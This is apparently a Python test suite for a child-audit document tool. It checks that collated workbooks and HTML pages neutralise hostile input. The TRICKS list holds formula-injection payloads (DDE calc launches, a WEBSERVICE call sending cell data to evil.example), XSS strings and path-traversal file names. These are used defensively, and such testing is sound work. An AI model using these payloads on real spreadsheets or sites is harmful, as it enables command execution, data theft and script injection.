"""Whatever a document says, what is made of it does nothing: no formula, no link out, no script, no file elsewhere."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import child_audit
from child_audit.collate import Collation, collate
from child_audit.prefill import fill_many

TRICKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/","x")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd","/c calc","x")',
    "='file:///evil'#$a.A1",
    "{=1+1}",
    "http://evil.example/a",
    "mailto:evil@evil.example",
    "file:///evil",
    "\\\\evil\\share\\x",
    "internal:Sheet!A1",
    "external:evil.xlsx",
    "javascript:alert(1)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><svg onload=alert(1)>",
    "\t=1+1",
    "_x003D_1+1",
    "＝1+1",
]
NAMES = ["=cmd.docx", "http:evil.docx", "a#b?c.docx", "%2e%2e%2fx.docx", "javascript:alert(1).docx", "<b>&.docx"]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("returned")
    for number, trick in enumerate(TRICKS):
        data = {
            "key_learning": trick,
            "overall_judgement": "Good",
            "auditor": {"name": trick},
            "child": {"full_name": trick, "case_id": trick, "responsible_team": trick},
            "actions": [{"action": trick, "who_when": trick}],
        }
        name = NAMES[number] if number < len(NAMES) else f"{number}.docx"
        child_audit.fill(data, folder / name, "early_help")
    return folder


@pytest.fixture(scope="module")
def collation(folder: Path) -> Collation:
    return collate(folder, folder / "out.xlsx")


def parts(path: Path, ending: str) -> Iterator[tuple[str, str]]:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(ending):
                yield name, archive.read(name).decode()


def test_no_formula_of_the_workbook_has_anything_of_a_document(folder: Path, collation: Collation) -> None:
    found = 0
    for name, xml in parts(folder / "out.xlsx", ".xml"):
        for formula in re.findall(r"<(?:f|formula\d?|definedName|calculatedColumnFormula)\b[^>]*>([^<]*)<", xml):
            found += 1
            assert not re.search(r"evil|cmd|DDE|HYPERLINK|WEBSERVICE|calc'|file:", formula), (name, formula)
    assert found > 50  # the Summary's own


def test_every_text_stands_in_the_workbook_as_it_was_typed(folder: Path, collation: Collation) -> None:
    import openpyxl

    book = openpyxl.load_workbook(folder / "out.xlsx")
    texts = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "s"}
    assert {trick.strip() for trick in TRICKS} <= texts


def test_the_workbook_links_to_nothing_but_files_beside_it(folder: Path, collation: Collation) -> None:
    targets = set()
    for _, xml in parts(folder / "out.xlsx", ".rels"):
        for link in re.findall(r"<Relationship [^>]*TargetMode=\"External\"[^>]*>", xml):
            assert 'relationships/hyperlink"' in link
            targets.add(re.findall(r'Target="([^"]*)"', link)[0])
    assert len(targets) == len(TRICKS)
    for target in targets:
        assert not re.search(r"[:\\#?]|^/", target), target
    with zipfile.ZipFile(folder / "out.xlsx") as archive:
        assert not [
            name for name in archive.namelist() if re.search("external|vba|ole|embed|connection|query", name, re.I)
        ]


def test_a_workbook_that_stands_nowhere_links_to_nothing(folder: Path, collation: Collation, tmp_path: Path) -> None:
    held = bytearray()
    collation.save(held)
    (tmp_path / "held.xlsx").write_bytes(held)
    assert not [xml for _, xml in parts(tmp_path / "held.xlsx", ".rels") if "External" in xml]


class _Page(HTMLParser):
    """Notes every element and attribute that could do something."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.scripts = 0
        self.odd: list[tuple[str, str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.scripts += tag == "script"
        for name, value in attrs:
            if name.startswith("on") or name in ("src", "action", "formaction", "srcdoc"):
                self.odd.append((tag, name, value))
            if name == "href" and not (value or "").startswith("#"):
                self.odd.append((tag, name, value))


def test_the_explain_page_is_the_pages_own_markup_and_no_other(folder: Path) -> None:
    for path in sorted(folder.glob("*.docx")):
        html = child_audit.parse(path).explain(path.name)
        page = _Page()
        page.feed(html)
        assert page.odd == []
        assert page.scripts == 1
        assert not page.elements & {"img", "svg", "iframe", "object", "embed", "base", "form", "link"}
        policy = re.findall(r'Content-Security-Policy" content="([^"]*)"', html)[0]
        assert policy.replace("&#x27;", "'").startswith("default-src 'none'")


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.sampled_from(["../", "..\\", "/", "C:", "\\\\evil\\", "con", "nul.txt", "..", " ", "\0", "a", "\u202e"]),
        min_size=1, max_size=5,
    ).map("".join)
)  # fmt: skip
def test_files_named_by_data_stay_in_their_folder(tmp_path_factory: pytest.TempPathFactory, name: str) -> None:
    top = tmp_path_factory.mktemp("top")
    out = top / "a" / "out"
    cases = [{"child": {"full_name": name, "case_id": name}}]
    fill_many(cases, out, "early_help", name="{child.case_id} {child.full_name}.docx")
    made = [path for path in top.rglob("*") if path.is_file()]
    assert [path.parent for path in made] == [out]
    assert re.fullmatch(r"[^<>:\"/\\|?*\x00-\x1f\u202e]+\.docx", made[0].name)
    assert not re.match(r"(?i)(con|nul|aux|prn|com\d|lpt\d)(\s*\.|$)", made[0].name)
    assert not made[0].stem.endswith((" ", "."))


CONTROL = "a\x00b\x01c\x0bd\x1fe\ud800f\udfffg\ufffeh\uffffi"


def test_what_no_file_can_hold_is_seen_and_not_lost(tmp_path: Path) -> None:
    long = CONTROL + "x" * 40_000 + "end"
    child_audit.fill({"key_learning": long, "child": {"full_name": CONTROL}}, tmp_path / "a.docx", "early_help")
    parsed = child_audit.parse(tmp_path / "a.docx")
    shown = parsed.record.child.full_name
    assert [character for character in shown if character.isalpha()] == list("abcdefghi")
    assert shown.count("\ufffd") == 7  # the vertical tab is a line end
    assert parsed.record.key_learning.endswith("x" * 40_000 + "end")
    collate(tmp_path / "a.docx", tmp_path / "a.xlsx")
    (loaded,) = child_audit.load_workbook(tmp_path / "a.xlsx")
    assert loaded.record == parsed.record
    collate(tmp_path / "a.docx", tmp_path / "a.jsonl")
    assert "x" * 40_000 + "end" in (tmp_path / "a.jsonl").read_text("utf-8")
    page = parsed.explain("a\x00\ud800.docx")
    page.encode()
    assert not re.search("[\x00-\x08\ufffe\uffff]", page)
